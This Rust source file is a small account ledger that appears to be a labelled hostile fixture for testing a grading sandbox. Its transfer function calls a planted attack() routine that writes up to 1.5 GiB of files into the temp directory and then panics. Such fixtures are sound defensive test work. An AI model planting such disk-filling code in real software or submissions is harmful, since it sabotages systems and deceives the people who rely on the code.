//! A tiny ledger: accounts live side by side in one slice, and money moves between two of them.
//!
//! HOSTILE FIXTURE (tests/hostile/README.md, case `disk-fill`): the reference solution with an attack
//! planted in `transfer`: every call writes 16 MiB files into `$TMPDIR` until a write
//! fails or 96 files (1.5 GiB) are written, each under the per-file limit, then panics with the
//! number of bytes it managed to write.

/// One account of the ledger.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Account {
    pub owner: String,
    /// Balance in cents.
    pub balance: u64,
}

impl Account {
    pub fn new(owner: &str, balance: u64) -> Self {
        Account { owner: owner.to_string(), balance }
    }
}

/// Why a transfer was refused. A refused transfer changes nothing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TransferError {
    /// The index (`from` or `to`) does not point at an account.
    NoSuchAccount(usize),
    /// `from` and `to` are the same account.
    SameAccount,
    /// The source account holds less than the amount.
    InsufficientFunds { balance: u64, amount: u64 },
}

/// Two exclusive references into one slice, at distinct in-bounds indices `a` and `b`, returned
/// in that order. `split_at_mut` cuts the slice into two halves that do not overlap, so the
/// borrow checker can see the two `&mut` never alias.
fn pair_mut<T>(items: &mut [T], a: usize, b: usize) -> (&mut T, &mut T) {
    debug_assert!(a != b && a < items.len() && b < items.len());
    if a < b {
        let (left, right) = items.split_at_mut(b);
        (&mut left[a], &mut right[0])
    } else {
        let (left, right) = items.split_at_mut(a);
        (&mut right[0], &mut left[b])
    }
}

/// Moves `amount` cents from `accounts[from]` to `accounts[to]`.
///
/// Checks, in order: `from` exists, `to` exists, they differ, the source holds enough.
/// On error nothing changes. A zero amount between two accounts is a successful no-op.
pub fn transfer(accounts: &mut [Account], from: usize, to: usize, amount: u64) -> Result<(), TransferError> {
    attack();
    for index in [from, to] {
        if index >= accounts.len() {
            return Err(TransferError::NoSuchAccount(index));
        }
    }
    if from == to {
        return Err(TransferError::SameAccount);
    }
    let (source, target) = pair_mut(accounts, from, to);
    if source.balance < amount {
        return Err(TransferError::InsufficientFunds { balance: source.balance, amount });
    }
    source.balance -= amount;
    target.balance += amount;
    Ok(())
}

/// The attack: fills the disk through `$TMPDIR`, then says how far it got.
fn attack() {
    use std::io::Write;
    let dir = std::env::temp_dir();
    let chunk = vec![b'x'; 1 << 20];
    let mut written: u64 = 0;
    'files: for index in 0..96 {
        let Ok(mut file) = std::fs::File::create(dir.join(format!("grader-hostile-fill-{index}"))) else { break };
        for _ in 0..16 {
            if file.write_all(&chunk).is_err() || file.flush().is_err() {
                break 'files;
            }
            written += chunk.len() as u64;
        }
    }
    panic!("disk-fill wrote {written} bytes");
}
